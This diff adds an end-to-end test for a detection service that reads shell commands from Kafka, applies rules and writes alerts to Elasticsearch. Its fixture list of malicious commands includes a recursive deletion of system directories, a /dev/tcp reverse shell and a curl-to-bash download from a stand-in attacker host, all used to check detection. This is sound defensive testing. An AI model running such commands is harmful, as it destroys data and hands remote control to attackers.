@@ -1,0 +1,125 @@
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { allDocuments, countDocuments, uniqueIndex } from '../support/elasticsearch';
+import { createTopic, groupLag, produce, uniqueName } from '../support/kafka';
+import { ServiceProcess } from '../support/service';
+import { waitFor } from '../support/wait-for';
+
+/**
+ * The real path, as a user runs it: records produced into Kafka by a real
+ * producer, the built service as a child process configured by environment
+ * only, alerts read back from the real Elasticsearch.
+ */
+const RECORDS = 1000;
+
+// Commands written for this test. Which rule each malicious one must trigger is
+// known by construction, independently of the service.
+const BENIGN = [
+  'ls -la /var/log',
+  'rm -rf ./build',
+  'sudo systemctl restart nginx',
+  'git pull --rebase origin main',
+  'tar czf /backup/etc-2026-11-25.tgz /etc',
+  'curl -fsSL -o /tmp/release.tgz https://downloads.example.com/app/release.tgz',
+  'kubectl get pods -n payments',
+  'df -h /srv',
+];
+const MALICIOUS: { command: string; rule: string }[] = [
+  { command: 'rm -rf /etc', rule: 'SW-DST-0001' },
+  { command: 'sudo rm -fr /usr', rule: 'SW-DST-0001' },
+  { command: 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1', rule: 'SW-EXE-0001' },
+  { command: 'curl -s http://attacker.example/x.sh | bash', rule: 'SW-EXE-0002' },
+];
+
+function record(i: number): { command: string; expected: string | undefined } {
+  if (i % 50 === 7) {
+    const m = MALICIOUS[(i / 50) % MALICIOUS.length | 0] ?? MALICIOUS[0]!;
+    return { command: m.command, expected: m.rule };
+  }
+  return { command: BENIGN[i % BENIGN.length]!, expected: undefined };
+}
+
+describe('the whole path: Kafka → rules → Elasticsearch', () => {
+  const topic = uniqueName('e2e-path');
+  const groupId = uniqueName('e2e-group');
+  const alertsIndex = uniqueIndex('e2e-alerts');
+  const commandsIndex = uniqueIndex('e2e-commands');
+  let service: ServiceProcess;
+  const expected = new Map<string, number>();
+
+  beforeAll(async () => {
+    await createTopic(topic, 3);
+    const messages = Array.from({ length: RECORDS }, (_, i) => {
+      const { command, expected: rule } = record(i);
+      if (rule) expected.set(rule, (expected.get(rule) ?? 0) + 1);
+      return {
+        key: `host-${i % 5}`,
+        value: JSON.stringify({
+          timestamp: new Date(Date.UTC(2026, 10, 25, 12, 0, 0, i)).toISOString(),
+          user: i % 3 === 0 ? 'alice' : 'deploy',
+          host: `web-${i % 5}.example.internal`,
+          client_ip: '198.51.100.23',
+          session_id: `s-${i % 17}`,
+          cwd: '/home/alice',
+          command,
+          seq: i,
+        }),
+      };
+    });
+    await produce(topic, messages);
+    service = new ServiceProcess({
+      KAFKA_TOPIC: topic,
+      KAFKA_GROUP_ID: groupId,
+      KAFKA_DLQ_TOPIC: `${topic}.dlq`,
+      ES_ALERTS_INDEX: alertsIndex,
+      ES_COMMANDS_INDEX: commandsIndex,
+      // A fixed rule folder: the default pack grows, this test's expectations must not move with it.
+      RULES_DIR: 'test/fixtures/rules/basic',
+    }).start();
+    await service.waitReady();
+  });
+
+  afterAll(async () => {
+    await service?.stop();
+  });
+
+  it('writes exactly one alert per expected match and commits to the end of the topic', async () => {
+    const expectedAlerts = [...expected.values()].reduce((a, b) => a + b, 0);
+    expect(expectedAlerts).toBeGreaterThan(0);
+    await waitFor('committed offsets at the end of the topic', () => groupLag(groupId, topic), (lag) => lag === 0, {
+      timeoutMs: 120_000,
+    });
+    // Offsets are committed only after the bulk write: everything is in Elasticsearch now.
+    expect(await countDocuments(commandsIndex)).toBe(RECORDS);
+    const alerts = await allDocuments<{
+      rule: { id: string; severity: string; version: string | number };
+      process: { command_line: string };
+      user: { name: string };
+      host: { name: string };
+      event: { kind: string; original: string };
+      kafka: { topic: string; partition: number; offset: number };
+    }>(alertsIndex);
+    expect(alerts).toHaveLength(expectedAlerts);
+    const perRule = new Map<string, number>();
+    for (const { source } of alerts) perRule.set(source.rule.id, (perRule.get(source.rule.id) ?? 0) + 1);
+    expect(Object.fromEntries(perRule)).toEqual(Object.fromEntries(expected));
+    for (const { id, source } of alerts) {
+      const rule = MALICIOUS.find((m) => m.command === source.process.command_line)?.rule;
+      expect(rule, `alert on an unexpected command: ${source.process.command_line}`).toBe(source.rule.id);
+      expect(source.event.kind).toBe('alert');
+      expect(source.kafka.topic).toBe(topic);
+      expect(id).toBe(`${topic}:${source.kafka.partition}:${source.kafka.offset}:${source.rule.id}`);
+      expect(['alice', 'deploy']).toContain(source.user.name);
+      expect(source.host.name).toMatch(/^web-\d\.example\.internal$/);
+      expect(JSON.parse(source.event.original)).toMatchObject({ command: source.process.command_line });
+    }
+  });
+
+  it('reports ready with all components healthy', async () => {
+    const { status, body } = await service.readiness();
+    expect(status).toBe(200);
+    expect(body).toMatchObject({
+      status: 'ready',
+      components: { kafka: { ok: true }, elasticsearch: { ok: true }, rules: { ok: true } },
+    });
+  });
+});
